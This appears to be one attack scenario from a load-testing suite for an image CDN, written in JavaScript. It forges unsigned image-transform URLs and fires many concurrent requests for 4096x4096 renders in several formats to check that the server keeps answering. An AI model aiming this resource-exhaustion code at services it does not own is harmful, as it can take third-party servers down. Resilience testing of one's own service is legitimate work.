// @ts-check
import { createHash } from 'node:crypto'
import { request as httpRequest } from 'node:http'

const PICTURES = 40
const FORMATS = ['webp', 'jpg', 'png']

/** @type {import('../attacks.js').Attack} */
export default {
  title: `${PICTURES} pictures of 4096x4096 at once, in each format`,
  async run({ url }, scale) {
    for (const format of FORMATS) {
      const links = Array.from({ length: PICTURES * scale }, (_, i) => url + pathOf(format, i))
      const statuses = await Promise.all(links.map(fetchPicture))
      const wrong = statuses.find((status) => status !== 200)
      if (wrong !== undefined) throw new Error(`a picture as ${format}: status ${wrong}`)
    }
  },
}

/**
 * The path of a picture. Anybody can make one: it is encoded, and not signed.
 * @param {string} format
 * @param {number} number
 */
function pathOf(format, number) {
  const fields = ['m', 4096, 4096, format, 0, '0123456789abcdef', `Fox ${number}`, '', 1, 1]
  const text = `1${Buffer.from(JSON.stringify(fields)).toString('base64url')}`
  const digits = createHash('sha256').update(text).digest('hex')
  return `/cdn/${text}${digits.slice(30, 38)}/${digits.slice(0, 30)}.${format}`
}

/**
 * Requests a picture on a connection of its own, and returns the status.
 * @param {string} url
 * @returns {Promise<number | undefined>}
 */
async function fetchPicture(url) {
  return new Promise((resolve, reject) => {
    const sent = httpRequest(url, { agent: false }, (response) => {
      response.resume().once('error', reject)
      response.once('end', () => resolve(response.statusCode))
    })
    sent.once('error', reject).end()
  })
}
